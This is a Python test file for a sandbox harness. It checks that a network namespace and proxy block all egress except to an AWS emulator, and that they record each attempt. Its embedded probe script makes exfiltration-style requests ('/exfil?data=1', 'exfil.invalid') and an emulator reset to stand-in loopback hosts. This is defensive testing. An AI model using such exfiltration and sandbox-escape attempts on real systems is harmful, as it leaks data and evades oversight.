"""Requirements: everything that is not the sandbox is refused and recorded; in the network
namespace the proxy is the only way out (direct sockets cannot leave).

Only loopback addresses 127.0.0.2+ and names under .invalid are used as destinations.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.errors import SandboxFailure
from harness.isolation import netns, run
from tests.isolation.helpers import run_python

needs_netns = pytest.mark.skipif(not netns.available()[0], reason=f"no namespaces: {netns.available()[1]}")


class Listener:
    """A TCP server on 127.0.0.2 standing in for "somewhere else"; counts who got through."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.2", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            client.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


ATTEMPTS = """
import json, os, socket, urllib.request, urllib.error, sys
import boto3
from botocore.config import Config
port, sandbox_port = int(sys.argv[1]), int(sys.argv[2])
pinned = os.environ["AWS_ENDPOINT_URL"]
results = {}

def attempt(name, action):
    try:
        results[name] = ["ok", str(action())]
    except urllib.error.HTTPError as error:
        results[name] = ["http", error.code]
    except Exception as error:
        results[name] = ["error", type(error).__name__]

attempt("http_via_proxy", lambda: urllib.request.urlopen(f"http://127.0.0.2:{port}/exfil?data=1", timeout=10).status)
attempt("https_via_proxy", lambda: urllib.request.urlopen("https://exfil.invalid/upload", timeout=10).status)
attempt("sdk_to_other_host", lambda: boto3.client("s3", endpoint_url=f"http://127.0.0.2:{port}",
        config=Config(retries={"max_attempts": 1})).list_buckets())
attempt("direct_socket", lambda: socket.create_connection(("127.0.0.2", port), timeout=5).close())
attempt("direct_to_sandbox", lambda: socket.create_connection(("127.0.0.1", sandbox_port), timeout=5).close())
attempt("dns", lambda: socket.getaddrinfo("exfil.invalid", 443))
attempt("emulator_reset", lambda: urllib.request.urlopen(
    urllib.request.Request(f"{pinned}/moto-api/reset", method="POST", data=b""), timeout=10).status)
print(json.dumps(results))
"""


def _run_attempts(tmp_path: Path, endpoint: str, listener: Listener, namespace: bool):
    (tmp_path / "change.py").write_text(ATTEMPTS)
    sandbox_port = endpoint.rsplit(":", 1)[1]
    return run.run_isolated([sys.executable, "change.py", str(listener.port), sandbox_port],
                            sandbox_endpoint=endpoint, cwd=tmp_path, timeout=60, namespace=namespace)


@needs_netns
def test_namespace_lets_nothing_but_the_sandbox_out(fresh_prod, tmp_path: Path, elsewhere: Listener):
    fresh_prod.target().client("s3").create_bucket(Bucket="survives-reset")

    execution = _run_attempts(tmp_path, fresh_prod.endpoint, elsewhere, namespace=True)

    assert execution.returncode == 0, execution.stderr
    assert execution.isolation == "netns"
    results = json.loads(execution.stdout)
    assert results["http_via_proxy"] == ["http", 403]
    assert results["https_via_proxy"][0] == "error"  # the CONNECT was refused
    assert results["sdk_to_other_host"] == ["error", "ClientError"]  # ShadowEgressRefused, AWS-shaped
    assert results["direct_socket"] == ["error", "ConnectionRefusedError"]  # nobody there in the namespace
    assert results["direct_to_sandbox"] == ["error", "ConnectionRefusedError"]
    assert results["dns"][0] == "error"
    assert results["emulator_reset"] == ["http", 403]
    assert elsewhere.connections == 0
    recorded = {(e.destination, e.how) for e in execution.egress}
    assert (f"127.0.0.2:{elsewhere.port}", "proxy-http") in recorded
    assert ("exfil.invalid:443", "proxy-connect") in recorded
    assert any(how == "emulator-control" and dest.endswith("/moto-api/reset") for dest, how in recorded)
    http_attempts = [e for e in execution.egress if e.how == "proxy-http"]
    assert len(http_attempts) == 2 and "/exfil?data=1" in http_attempts[0].detail  # urllib, then the SDK
    buckets = [b["Name"] for b in fresh_prod.target().client("s3").list_buckets()["Buckets"]]
    assert buckets == ["survives-reset"]
    assert execution.calls == []  # nothing above was an AWS call


def test_proxy_mode_refuses_through_the_proxy_but_cannot_stop_direct_sockets(
        fresh_prod, tmp_path: Path, elsewhere: Listener):
    """Without a namespace the proxy still refuses and records what goes through it; a raw
    socket is out of its reach, which is why namespace mode is the default where possible."""
    execution = _run_attempts(tmp_path, fresh_prod.endpoint, elsewhere, namespace=False)

    assert execution.returncode == 0, execution.stderr
    assert execution.isolation == "proxy"
    assert any("only guard" in note for note in execution.notes)
    results = json.loads(execution.stdout)
    assert results["http_via_proxy"] == ["http", 403]
    assert results["emulator_reset"] == ["http", 403]
    assert results["direct_socket"][0] == "ok" and elsewhere.connections == 1
    assert {e.how for e in execution.egress} == {"proxy-http", "proxy-connect", "emulator-control"}


def test_forced_namespace_fails_loudly_where_impossible(fresh_prod, tmp_path: Path, monkeypatch):
    monkeypatch.setattr(netns, "available", lambda: (False, "not root"))
    with pytest.raises(SandboxFailure, match="not root"):
        run_python(tmp_path, "print(1)", fresh_prod.endpoint, namespace=True)
    fallback = run_python(tmp_path, "print(1)", fresh_prod.endpoint, namespace=None)
    assert fallback.isolation == "proxy" and fallback.returncode == 0
    assert any("not root" in note for note in fallback.notes)
